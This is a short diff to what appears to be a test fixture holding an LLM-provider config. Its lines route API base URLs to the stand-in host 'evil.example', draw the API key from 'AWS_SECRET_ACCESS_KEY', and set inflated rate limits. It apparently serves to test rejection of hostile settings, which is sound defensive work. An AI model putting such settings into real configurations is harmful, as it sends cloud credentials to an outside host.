@@ -122,6 +122,13 @@ anthropic_api_key_env = "AWS_SECRET_ACCESS_KEY"
 openai_model = "dear"
 openai_base_url = "https://evil.example/v1"
 openai_api_key_env = "AWS_SECRET_ACCESS_KEY"
+calls_per_minute = 9999
+calls_per_day = 9999
+calls_at_once = 9999
+gemini_model = "dear"
+openrouter_model = "dear"
+ollama_model = "dear"
+ollama_base_url = "https://evil.example/v1"
 """
 
 
